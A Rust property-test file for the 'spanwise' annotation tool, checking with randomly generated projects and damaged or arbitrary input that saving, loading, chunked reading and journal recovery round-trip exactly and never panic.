// ---------------------------------------------------------------------------------------------
// Property tests

const LABELS: [&str; 4] = ["claim", "quote", "actor", "recommendation"];

/// Any text, including line breaks, tabs, control characters, combining marks and emoji.
fn any_text(max: usize) -> impl Strategy<Value = String> {
    proptest::collection::vec(
        prop_oneof![
            8 => any::<char>(),
            2 => Just('\n'),
            1 => prop::sample::select(vec!['\r', '\t', '\0', '"', '\'', '\\', '\u{200d}', '\u{301}', '\u{feff}', '\u{2028}']),
        ],
        1..max,
    )
    .prop_map(|chars| chars.into_iter().collect())
}

fn any_value() -> impl Strategy<Value = Value> {
    prop_oneof![
        any_text(20).prop_map(Value::Text),
        any::<f64>().prop_filter("NaN is not equal to itself", |n| !n.is_nan()).prop_map(Value::Number),
        any::<bool>().prop_map(Value::Bool),
        "[a-z]{1,8}".prop_map(Value::Choice),
    ]
}

type AnnotationSeed = (usize, usize, usize, bool, String, Vec<(String, Value)>);

fn any_project() -> impl Strategy<Value = Project> {
    (
        any_text(40),
        any_text(40),
        proptest::collection::vec(any_text(300), 1..3),
        proptest::collection::vec(
            (
                any::<usize>(),
                any::<usize>(),
                any::<usize>(),
                any::<bool>(),
                any_text(30),
                proptest::collection::vec(("[a-z]{1,6}", any_value()), 0..3),
            ),
            0..25,
        ),
        proptest::collection::vec((any::<usize>(), any::<usize>(), any_text(10)), 0..8),
        proptest::collection::vec((any::<u8>(), any_text(20)), 0..4),
        any::<u64>(),
    )
        .prop_map(|(name, description, texts, annotations, relations, memos, seed)| {
            build_project(name, description, texts, annotations, relations, memos, seed)
        })
}

fn build_project(
    name: String,
    description: String,
    texts: Vec<String>,
    annotations: Vec<AnnotationSeed>,
    relations: Vec<(usize, usize, String)>,
    memos: Vec<(u8, String)>,
    seed: u64,
) -> Project {
    let mut project = Project::new(name);
    project.description = description;
    project.created = common::time();
    project.annotators.push(Annotator { id: "ana".into(), name: "Ana \"the coder\"\n".into() });
    let mut ids = IdGenerator::seeded(seed);
    for (i, text) in texts.into_iter().enumerate() {
        let mut document = Document::new(format!("d{}", i + 1), format!("doc {i}.txt"), text);
        document.metadata.insert("title\t".into(), "A \"title\"\n".into());
        project.documents.push(document);
    }
    for (n, (doc, a, b, two, note, attributes)) in annotations.into_iter().enumerate() {
        let document = &project.documents[doc % project.documents.len()];
        let len = document.char_len();
        let start = a % len;
        let end = start + 1 + b % (len - start);
        let mut fragments = vec![document.fragment(start..end).unwrap()];
        if two && end + 1 < len {
            let second = end + 1 + b % (len - end - 1);
            fragments.push(document.fragment(second..(second + 1).min(len)).unwrap());
        }
        let annotation = Annotation {
            id: ids.next_id(),
            label: LABELS[n % 4].into(),
            fragments,
            annotator: "ana".into(),
            created: common::time(),
            modified: common::time(),
            note,
            attributes: attributes.into_iter().collect(),
        };
        let document = document.id.clone();
        apply(&mut project, Edit::AddAnnotation { document, annotation }).unwrap();
    }
    for (from, to, note) in relations {
        let document = &project.documents[from % project.documents.len()];
        let all = &document.annotations;
        let actors: Vec<&Annotation> = all.iter().filter(|a| a.label == "actor").map(|a| &**a).collect();
        if all.is_empty() || actors.is_empty() {
            continue;
        }
        let (source, target) = (all[from % all.len()].id, actors[to % actors.len()].id);
        if source == target {
            continue;
        }
        let relation = Relation {
            id: ids.next_id(),
            kind: "about".into(),
            from: source,
            to: target,
            annotator: "ana".into(),
            created: common::time(),
            modified: common::time(),
            note,
        };
        let document = document.id.clone();
        let _ = apply(&mut project, Edit::AddRelation { document, relation });
    }
    for (kind, text) in memos {
        let target = match kind % 4 {
            0 => MemoTarget::Project,
            1 => MemoTarget::Document("d1".into()),
            2 => MemoTarget::Label("claim".into()),
            _ => match project.documents[0].annotations.first() {
                Some(a) => MemoTarget::Annotation(a.id),
                None => MemoTarget::Project,
            },
        };
        project.memos.push(Memo {
            id: ids.next_id(),
            target,
            title: text.clone(),
            text,
            author: "ana".into(),
            created: common::time(),
            modified: common::time(),
        });
    }
    assert!(validate(&project).is_empty(), "{:?}", validate(&project));
    project
}

/// A small valid file to damage.
fn sample_text() -> String {
    std::fs::read_to_string(fixture(1)).unwrap()
}

proptest! {
    // 64 cases in the test suite; PROPTEST_CASES=10000 for a longer run.
    #![proptest_config(ProptestConfig {
        cases: std::env::var("PROPTEST_CASES").ok().and_then(|c| c.parse().ok()).unwrap_or(64),
        .. ProptestConfig::default()
    })]

    #[test]
    fn random_projects_save_and_load_exactly(project in any_project()) {
        let text = store::to_string(&project);
        let loaded = store::from_str(&text).map_err(|e| TestCaseError::fail(format!("{e}\n{text}")))?;
        prop_assert_eq!(&loaded, &project);
        prop_assert_eq!(&store::to_string(&loaded), &text);
        // One annotation per line, whatever the text holds.
        for annotation in project.documents.iter().flat_map(|d| &d.annotations) {
            let lines = text.lines().filter(|l| l.contains(&format!("(id: {}, label:", annotation.id))).count();
            prop_assert_eq!(lines, 1);
        }
    }

    #[test]
    fn random_projects_survive_the_journal(project in any_project()) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("j.journal");
        let owner = store::lock::LockOwner::current("prop");
        let base = Project::new("empty");
        let mut writer = journal::JournalWriter::create(&path, &owner, None, None, journal::StartFrom::Snapshot(&base), &Default::default()).unwrap();
        // The whole project as edits: its annotator and documents (with their annotations).
        let mut edits = vec![Edit::AddAnnotator(project.annotators[0].clone())];
        for (index, document) in project.documents.iter().enumerate() {
            edits.push(Edit::AddDocument { index, document: Box::new(document.clone()) });
        }
        let applied: Vec<Applied> = edits.into_iter().map(|edit| Applied { direction: Direction::Apply, edit }).collect();
        writer.append(&applied).unwrap();
        drop(writer);
        let recovery = journal::prepare(&path, None).unwrap();
        prop_assert!(recovery.notes.is_empty(), "{:?}", recovery.notes);
        prop_assert_eq!(&recovery.project.documents, &project.documents);
    }

    #[test]
    fn damaged_project_files_never_panic(cuts in proptest::collection::vec((any::<usize>(), any::<u8>(), 0u8..4), 1..6)) {
        let mut bytes = sample_text().into_bytes();
        for (at, byte, how) in cuts {
            let at = at % (bytes.len() + 1);
            match how {
                0 => bytes.truncate(at),
                1 if at < bytes.len() => bytes[at] = byte,
                2 => bytes.insert(at, byte),
                _ if at < bytes.len() => { bytes.remove(at); }
                _ => {}
            }
        }
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("damaged.spanwise.ron");
        std::fs::write(&path, &bytes).unwrap();
        // Loads (then it is valid) or is refused with at least one problem: never a panic.
        let loaded = store::load_file(&path);
        match &loaded {
            Ok(loaded) => prop_assert!(validate(&loaded.project).is_empty()),
            Err(err) => prop_assert!(!err.problems().is_empty()),
        }
        // Read in pieces (`store::stream`) or whole, a file is read as `from_str` reads its text.
        if let Ok(text) = std::str::from_utf8(&bytes) {
            match (loaded, store::from_str(text.strip_prefix('\u{feff}').unwrap_or(text))) {
                (Ok(loaded), Ok(project)) => prop_assert_eq!(loaded.project, project),
                (Err(a), Err(b)) => prop_assert_eq!(a.to_string(), b.to_string()),
                (a, b) => prop_assert!(false, "load_file: {:?}, from_str: {:?}", a.map(|_| ()), b.map(|_| ())),
            }
        }
    }

    #[test]
    fn random_projects_read_in_any_pieces(project in any_project(), chunk in 1usize..300) {
        let text = store::to_string(&project);
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p.spanwise.ron");
        std::fs::write(&path, &text).unwrap();
        // In pieces exactly when the fast reader reads the whole text (not, e.g., annotations
        // with attributes), and then to the same parts.
        let streamed = store::stream::read(&path, store::MAX_FILE_BYTES, chunk).unwrap();
        match (streamed, store::reader::split(&text)) {
            (Some(streamed), Some(whole)) => {
                prop_assert_eq!(&streamed.split.skeleton, &whole.skeleton);
                prop_assert_eq!(&streamed.split.documents, &whole.documents);
                prop_assert_eq!(&streamed.sha256, &store::sha256_of(text.as_bytes()));
            }
            (None, None) => {}
            (streamed, whole) => prop_assert!(false, "in pieces: {}, whole: {}", streamed.is_some(), whole.is_some()),
        }
        prop_assert_eq!(store::load_file(&path).unwrap().project, project);
    }

    #[test]
    fn arbitrary_bytes_never_panic_any_reader(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = store::from_str(&text);
        let _ = store::from_str_keeping_unknown(&format!("(format: \"spanwise\", version: 1, {text}"));
        let _ = journal::parse(&bytes, Path::new("j"));
        let _ = formats::markdown::import(&text, "d1".into(), "x.md".into());
        let _ = formats::text::import(&text, "d1".into(), "x.txt".into());
    }

    #[test]
    fn a_journal_cut_anywhere_replays_a_prefix(cut in any::<usize>()) {
        let project = common::tricky_project();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("j.journal");
        let owner = store::lock::LockOwner::current("prop");
        let mut writer = journal::JournalWriter::create(&path, &owner, None, None, journal::StartFrom::Snapshot(&project), &Default::default()).unwrap();
        let ids: Vec<ItemId> = project.documents[0].annotations.iter().map(|a| a.id).collect();
        for id in &ids {
            let edit = Edit::RemoveAnnotation { document: "d1".into(), id: *id };
            writer.append(&[Applied { direction: Direction::Apply, edit }]).unwrap();
        }
        drop(writer);
        let bytes = std::fs::read(&path).unwrap();
        let header_len = bytes.iter().position(|b| *b == b'\n').unwrap() + 1;
        let cut = header_len + cut % (bytes.len() - header_len + 1);
        std::fs::write(&path, &bytes[..cut]).unwrap();
        let contents = journal::read(&path).unwrap();
        let complete_lines = bytes[header_len..cut].iter().filter(|b| **b == b'\n').count();
        prop_assert!(contents.entries.len() == complete_lines || contents.entries.len() == complete_lines + 1);
        let torn = contents.entries.len() == complete_lines && cut > header_len && bytes[cut - 1] != b'\n';
        prop_assert_eq!(matches!(contents.stop, Some(journal::Stop::Torn { .. })), torn);
        let recovery = journal::prepare(&path, None).unwrap();
        let remaining = recovery.project.documents[0].annotations.len();
        prop_assert_eq!(remaining, ids.len() - contents.entries.len());
    }
}

#[test]
fn fragments_keep_their_text_through_edits_on_random_text() {
    // A sanity check of the fixture helpers above with a fixed seed.
    let project = build_project(
        "n".into(),
        "d".into(),
        vec!["abc\ndef".into()],
        vec![(0, 0, 2, true, "x".into(), vec![])],
        vec![],
        vec![(0, "m".into())],
        1,
    );
    let fragments: Vec<&Fragment> = project.documents[0].annotations[0].fragments.iter().collect();
    assert_eq!(fragments[0].text, "abc");
}
